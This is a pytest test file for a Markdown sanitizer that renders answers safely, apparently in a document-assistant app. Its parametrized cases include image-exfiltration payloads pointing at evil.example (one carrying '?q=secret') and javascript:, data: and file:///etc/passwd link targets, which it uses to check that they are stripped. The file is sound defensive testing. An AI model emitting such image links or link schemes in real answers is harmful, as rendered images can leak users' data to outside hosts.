"""Answers are drawn as Markdown, but nothing in them can reach out of the machine."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from docmind.ui.markdown import plain, plain_block, safe


def inline_tokens(markdown):
    """Return the inline tokens a CommonMark reader finds."""
    tokens = []
    for block in MarkdownIt("commonmark").parse(markdown):
        tokens.extend(block.children or ())
    return tokens


def images(markdown):
    return [token for token in inline_tokens(markdown) if token.type == "image"]


def link_targets(markdown):
    tokens = inline_tokens(markdown)
    return [token.attrGet("href") for token in tokens if token.type == "link_open"]


@pytest.mark.parametrize(
    "attack",
    [
        "![a](http://evil.example/?q=secret)",
        "![a]( <http://evil.example/x> 'title')",
        "![a][ref]\n\n[ref]: http://evil.example/x",
        "[ref]: http://evil.example/x\n\n![ref]",
        "\\\\![a](http://evil.example)",
        "[![a](http://evil.example)](http://evil.example)",
        "`a` ![b](http://evil.example) `c`",
        "$x$ ![b](http://evil.example) $y$",
        "$5 ![b](http://evil.example) 6$",
        "> - ![b](http://evil.example)",
        "| a |\n| - |\n| ![b](http://evil.example) |",
        "<div>\n```\n</div>\n\n![x](http://evil.example)\n\n```",
        "text\n\n    ![not code](http://evil.example)\nmore ![x](http://evil.example)",
        "!\\[a](http://evil.example) ![a\n](http://evil.example)",
    ],
)
def test_no_image_survives(attack):
    assert images(safe(attack)) == []


@pytest.mark.parametrize(
    "target", ["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "//evil", "/a"]
)
def test_only_web_links_stay_links(target):
    shown = safe(f"see [this]({target}) and [that](https://example.org/a)")
    assert link_targets(shown) == ["https://example.org/a"]
    assert "this" in shown


def test_reference_links_to_other_schemes_are_text():
    assert link_targets(safe("[x][y]\n\n[y]: javascript:alert(1)")) == []


@pytest.mark.parametrize(
    "prose",
    [
        "It costs $5 and then $10.",
        "$5-$10",
        "US$5/US$6",
        "between $5 (or 6$)",
        "$AAPL/$MSFT",
        "from $1,000 to $2,000",
    ],
)
def test_prices_stay_prices(prose):
    assert safe(prose) == prose.replace("$", "\\$")


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("so $x^2$ holds", "so $x^2$ holds"),
        ("$2x = 4$", "$2x = 4$"),
        ("$$\na + b\n$$", "$$\na + b\n$$"),
        (r"\(a_1\) and \[b\]", "$a_1$ and $$b$$"),
    ],
)
def test_mathematics_stays(written, shown):
    assert safe(written) == shown


def test_code_stays_as_written():
    code = "```python\nprice = '$5'  # [1] ![x](y)\n```\n"
    assert safe(code) == code
    assert safe("run `echo $HOME` now") == "run `echo $HOME` now"


def test_what_only_python_takes_for_a_line_end_shifts_no_code():
    assert safe("a\u2028b\x0cc\n```\n$5\n```\nso $6") == "a\u2028b\x0cc\n```\n$5\n```\nso \\$6"


def test_markers_become_what_the_page_draws_for_them():
    seen = []

    def cite(number, position):
        seen.append((number, position))
        return f"<{number}>"

    assert safe("A [1]. B [2][1]. `x[3]`", cite) == "A <1>. B <2><1>. `x[3]`"
    assert seen == [(1, 0), (2, 1), (1, 2)]
    assert safe("both [1, 3] and [2](see there)", cite) == "both <1><3> and <2> (see there)"


def test_streamlit_directives_of_a_model_are_text():
    assert safe("say :red[stop] and 12:30") == "say \\:red[stop] and 12:30"


@pytest.mark.parametrize(
    "text",
    [
        "# Title\n",
        "- **bold** and *soft*\n- [link](https://example.org)\n",
        "| a | b |\n| - | - |\n| 1 | 2 |\n",
        "# Title\n\n- **bold**\n\n| a | b |\n| - | - |\n| 1 | 2 |\n",
    ],
)
def test_ordinary_markdown_is_untouched(text):
    assert safe(text) == text


def test_names_in_labels_are_letters_only():
    shown = plain("a_b ![x](http://evil.example)\n**c** $5 :red[d].pdf")
    rendered = inline_tokens(shown)
    assert all(token.type.startswith("text") for token in rendered)
    letters = "".join(token.content for token in rendered)
    assert letters == "a_b ![x](http://evil.example) **c** $5 :red[d].pdf"


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="![]()`$\\ \n<>:#a1h-\"'", max_size=60))
def test_whatever_is_written_no_image_and_no_foreign_link(text):
    for shown in (safe(text), safe(text + "![x](http://evil.example)"), plain_block(text)):
        assert images(shown) == []
        for target in link_targets(shown):
            assert target.startswith(("http://", "https://", "mailto:"))
